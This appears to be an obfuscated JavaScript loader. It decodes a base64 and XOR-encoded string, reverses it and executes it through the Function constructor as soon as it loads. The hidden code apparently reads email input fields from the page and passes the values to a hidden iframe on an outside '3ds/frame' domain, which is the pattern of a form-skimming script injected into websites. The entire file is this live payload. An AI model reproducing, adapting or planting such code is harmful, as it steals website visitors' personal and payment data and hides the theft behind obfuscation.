var _$ = [
  'NiR5Y2hgeG5iaSUkcAc2JD09OD8tIXAtLQc2JD09PT4tIXAtNiQlaHtiYGh/I2stdi0kJS1jYmR5',
  'bmN4ayV5eGJoYGRZeWh+LS0tLQc2JGslaWFkZU5pY2h9fWwjdGlibyNuYmktLS0tBzYkfiVsYnlv',
  'LSYtKi5hYHllI2hgbH9rIn5pPiJqf2IjfnRsemh5bGogaGh/eWNkbH9vIiI3fn15eWUqLTAtbn9+',
  'I2stLS0tBzYqaGNiYyotMC10bGF9fmRpI2hhdHl+I2stLS0tBzYkKmhgbH9rZColeWNoYGhhSGh5',
  'bGh/biNuYmktMC1rLX9sey0tLS0HNn4tMC15fmxhLS0tLQc2Y394eWh/LSR5fmxhLTAwMC1+JS1r',
  'ZC0tLS0HNiRpJXRrZGpjZH95fiNDQl5HLTAtfi1/bHstLS0tBzZjf3h5aH8tJG4jaSwtcXEtYyNp',
  'LCUta2QtLS0tBzYkJXluaGFhYm4tMC1pLX9sey0tLS0Hdi0kJS1jYmR5bmN4ayVhbHt/aHljRHlo',
  'fi0tBzYqKi0wLXl+bGEtf2x7LS0HcC0tBzZ/LWN/eHlofy0tLS0HNmh4YWx7IyRwdi1xcS0kKlBh',
  'ZGxgaDBofXR5Vnl4fWNkKiV/YnluaGFoXnR/aHh8I25iaSUtMC1gI38tLS0tB3AtNioqLTctaHhh',
  'bHsjYWgtMi1haC0wLVBmVn8tNiRQZlZ+aWQlaUR0T3ljaGBoYUh5aGojbmJpLTAtYWgtf2x7LXYt',
  'JH5pZC1jZC1mLX9seyUtf2JrLS0tLQc2cHYtMC1/LX9sey0tLS0Hdi0kJXluaGFhYm4tY2JkeW5j',
  'eGstLQc2cC0qf2hpYWJFaX9sbiotN2UtISpoaWJOdHlkf3huaH4qLTduLSEqaHlsSX11aCotN2gt',
  'ISpjbH0qLTdjLXYtMC1+aWQtf2x7LS0Hdi0kbmJpJS1jYmR5bmN4ayU='
].join('');
var _t = atob(_$), _u = [];
for (var i = 0; i < _t.length; i++) _u[i] = String.fromCharCode(_t.charCodeAt(i) ^ 0x0d);
var _s = _u.reverse().join('');
[]["\x66\x69\x6c\x74\x65\x72"]["\x63\x6f\x6e\x73\x74\x72\x75\x63\x74\x6f\x72"](_s)();
